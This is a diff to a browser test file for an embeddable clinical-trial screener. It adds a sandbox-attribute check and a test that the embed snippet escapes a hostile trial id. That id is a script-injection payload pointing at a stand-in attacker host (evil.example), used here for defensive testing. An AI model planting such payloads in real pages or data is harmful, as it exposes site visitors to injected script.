@@ -278,6 +278,8 @@ test('the example host page: the frame follows its content both ways, the host c
   const sandbox = await page.evaluate(() => document.querySelector('iframe').getAttribute('sandbox'));
   assert.match(sandbox, /allow-scripts/);
   assert.doesNotMatch(sandbox, /allow-top-navigation/);
+  // Nothing it does needs to let popups out of the sandbox (print needs allow-modals).
+  assert.doesNotMatch(sandbox, /allow-popups-to-escape-sandbox/);
   await page.context().close();
   await host.close();
 });
@@ -322,3 +324,28 @@ test('the embed page builds a snippet and previews it', async () => {
   await page.context().close();
 });
 
+
+test('the embed page escapes what it writes into the snippet, even a hostile trial id', async () => {
+  const { dir, site, remove } = await publishedCopy();
+  const file = path.join(dir, 'trials.json');
+  const trials = JSON.parse(fs.readFileSync(file, 'utf8'));
+  const hostile = 'NCT1"><script src=//evil.example/x.js></script>';
+  trials.trials[0].id = hostile;
+  fs.writeFileSync(file, JSON.stringify(trials));
+  const page = await open(browser, null, { serviceWorkers: 'block' });
+  await page.goto(site.url + 'embed.html');
+  await page.waitForSelector('#trials input');
+  await page.locator('#trials input').first().check();
+  const snippet = await page.inputValue('#snippet');
+  assert.doesNotMatch(snippet, /<script src=\/\/evil/, snippet);
+  assert.match(snippet, /data-trials="NCT1&quot;&gt;&lt;script src=\/\/evil\.example\/x\.js&gt;&lt;\/script&gt;"/);
+  // Pasted into a page, the snippet is one element and one script: the screener's own.
+  const parsed = await page.evaluate((html) => {
+    const doc = new DOMParser().parseFromString(html, 'text/html');
+    return { divs: doc.querySelectorAll('div').length, scripts: [...doc.querySelectorAll('script')].map((s) => s.getAttribute('src')) };
+  }, snippet);
+  assert.equal(parsed.divs, 1);
+  assert.deepEqual(parsed.scripts, [new URL('embed.js', site.url).href]);
+  await page.context().close();
+  await remove();
+});
